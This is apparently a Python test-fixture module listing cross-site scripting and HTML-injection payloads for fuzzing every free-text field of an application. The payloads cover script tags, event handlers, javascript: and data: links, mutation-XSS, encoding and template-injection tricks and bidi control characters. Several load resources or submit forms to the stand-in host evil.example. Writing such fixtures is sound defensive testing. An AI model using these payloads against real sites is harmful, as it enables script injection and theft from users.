"""Texts that try to run a script, load a file or change the layout of a page.

Tests write these texts into every free-text field: bodies, titles, tags, aliases, agent names, tasks,
findings and file names.
"""

from __future__ import annotations

from typing import Final

PAYLOADS: Final[tuple[str, ...]] = (
    # script
    "<script>pwned()</script>",
    "<SCRIPT SRC=http://evil.example/pwned.js></SCRIPT>",
    "<script/src=data:,pwned()>",
    "<scr<script>ipt>pwned()</scr</script>ipt>",
    "<<script>pwned();//<</script>",
    "</title><script>pwned()</script>",
    "</textarea><script>pwned()</script>",
    "</style><script>pwned()</script>",
    "--><script>pwned()</script>",
    "]]><script>pwned()</script>",
    "'\"><script>pwned()</script>",
    "<script\x0c>pwned()</script\x0c>",
    '<noscript><p title="</noscript><script>pwned()</script>">',
    # event handlers
    "<img src=x onerror=pwned()>",
    "<img src=x oNeRrOr=pwned()//",
    "<img/src='x'/onerror='pwned()'>",
    "<body onload=pwned()>",
    "<svg onload=pwned()>",
    "<details open ontoggle=pwned()>x</details>",
    "<input autofocus onfocus=pwned()>",
    "<select autofocus onfocus=pwned()></select>",
    "<marquee onstart=pwned()>x</marquee>",
    "<video><source onerror=pwned()></video>",
    "<audio src=x onerror=pwned()>",
    "<a href=# onmouseover=pwned()>x</a>",
    "<p style=animation-name:x onanimationstart=pwned()>x</p>",
    '" onmouseover="pwned()',
    "' onfocus='pwned()' autofocus='",
    "` onmouseover=pwned() `",
    # links
    "[pwned](javascript:pwned())",
    "[x](JaVaScRiPt:pwned())",
    "[x](java\tscript:pwned())",
    "[x](&#106;avascript:pwned())",
    "[x](\x01javascript:pwned())",
    "[x](vbscript:pwned())",
    "[x](data:text/html;base64,PHNjcmlwdD5wd25lZCgpPC9zY3JpcHQ+)",
    "[x](data:image/svg+xml,<svg/onload=pwned()>)",
    "<javascript:pwned()>",
    "<a href=javascript:pwned()>pwned</a>",
    '<a href="jav&#x0A;ascript:pwned()">x</a>',
    '<a href=" &#14; javascript:pwned()">x</a>',
    "<a href=data:text/html,<script>pwned()</script>>x</a>",
    "<a href=file:///etc/passwd>x</a>",
    "[[javascript:pwned()]]",
    "[[x|<img src=x onerror=pwned()>]]",
    '[[x" onmouseover="pwned()]]',
    "![x](javascript:pwned())",
    "![x](http://evil.example/pwned.png)",
    "![x](//evil.example/pwned.png)",
    "![[../../../etc/pwned.png]]",
    "[r]: javascript:pwned()\n\n[r]",
    '[x](<javascript:pwned()> "t")',
    # images and frames
    "<svg><script>pwned()</script></svg>",
    "<svg><animate onbegin=pwned() attributeName=x></svg>",
    "<svg><a xlink:href=javascript:pwned()><text y=20>x</text></a></svg>",
    '<svg><use href="data:image/svg+xml,<svg id=x onload=pwned()>#x"></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror=pwned()></style></mglyph></table></mtext></math>",
    "<iframe src=javascript:pwned()></iframe>",
    "<iframe srcdoc='<script>pwned()</script>'></iframe>",
    "<object data=javascript:pwned()></object>",
    "<embed src=javascript:pwned()>",
    "<frameset onload=pwned()></frameset>",
    "<img src=/console/files/../logout>",
    "<img srcset='http://evil.example/pwned.png 1x'>",
    "<picture><source srcset=http://evil.example/pwned.png></picture>",
    "<video poster=http://evil.example/pwned.png src=http://evil.example/pwned.mp4></video>",
    # elements that link to other pages or load them
    "<meta http-equiv=refresh content='0;url=http://evil.example/pwned'>",
    "<base href=http://evil.example/pwned>",
    "<link rel=stylesheet href=http://evil.example/pwned.css>",
    "<form action=http://evil.example/><input name=csrf><button>pwned</button></form>",
    "<button formaction=javascript:pwned()>x</button>",
    "<isindex action=javascript:pwned() type=image>",
    "</textarea></select></form></main><form action=//evil.example/>pwned",
    # style
    "<style>*{display:none}</style>pwned",
    "<style>@import 'http://evil.example/pwned.css';</style>",
    '<p style="background:url(http://evil.example/pwned)">x</p>',
    '<div style="position:fixed;inset:0;z-index:99">pwned</div>',
    '<p class="notice side skip" id=main>x</p>',
    # mutations
    '<noembed><img title="</noembed><img src=x onerror=pwned()>"></noembed>',
    '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style>'
    '<img onerror=pwned() src>">',
    '<svg></p><style><a id="</style><img src=1 onerror=pwned()>">',
    "<table><td><style></td><img src=x onerror=pwned()></style></table>",
    '<a title="`<img src=x onerror=pwned()>`">x</a>',
    "<template><script>pwned()</script></template>",
    "<xmp><img src=x onerror=pwned()></xmp>",
    "<plaintext><img src=x onerror=pwned()>",
    # entities, encodings and templates
    "&lt;script&gt;pwned()&lt;/script&gt;",
    "&#60;script&#62;pwned()&#60;/script&#62;",
    "&amp;lt;img src=x onerror=pwned()&amp;gt;",
    r"\u003cscript\u003epwned()\u003c/script\u003e",
    "\uff1cscript\uff1epwned()\uff1c/script\uff1e",
    "+ADw-script+AD4-pwned()+ADw-/script+AD4-",
    "{{ 7 * 7 }}{% include 'pwned' %}{{ config }}",
    "${pwned()} #{pwned()} <%= pwned() %>",
    "%3Cscript%3Epwned()%3C/script%3E",
    # Markdown that is converted to HTML
    "```html onload=pwned()\n<script>pwned()</script>\n```",
    '```" onmouseover="pwned()\nx\n```',
    '> [!note" onload="pwned()] x',
    "> [!note] <img src=x onerror=pwned()>\n> <script>pwned()</script>",
    'x[^" onload="pwned()]\n\n[^" onload="pwned()]: <script>pwned()</script>',
    "# <img src=x onerror=pwned()> {#x onload=pwned()}",
    "| a |\n|---|\n| <img src=x onerror=pwned()> |",
    "- [ ] <input onfocus=pwned() autofocus>",
    "`<script>pwned()</script>` ``<img src=x onerror=pwned()>``",
    '<http://evil.example/"onmouseover="pwned()>',
    "<a\nhref\n=\njavascript:pwned()\n>x</a>",
    "<!-- <img src=x onerror=pwned()> --!><script>pwned()</script>",
    "<![CDATA[<script>pwned()</script>]]>",
    '<?xml-stylesheet href="javascript:pwned()"?>',
    # text direction and control characters
    "\u202egnp.exe \u202d\u2066 pwned \u2069",
    "admin\u200b\u200f\u200e\u2028pwned\u2029",
    "\u061c\u0000\u0007\u001b[31mpwned",
)

#: One payload of each kind that is also a valid name. Tests with a dozen calls per text use this short list.
HOSTILE: Final = tuple(one for one in PAYLOADS if one.startswith((
    "<script>", "'\"><", "</title>", '" on', "' on", "[pwned](javascript", "<a href=java", "<math",
    "<iframe srcdoc",
    "<form action", "<style>*", "<base", "<meta", "</textarea></select>", "{{ 7", "\u202e",
)))  # fmt: skip

#: A very long line, for fields that accept long texts.
LONG_LINE: Final = "<img src=x onerror=pwned()> " * 3_700
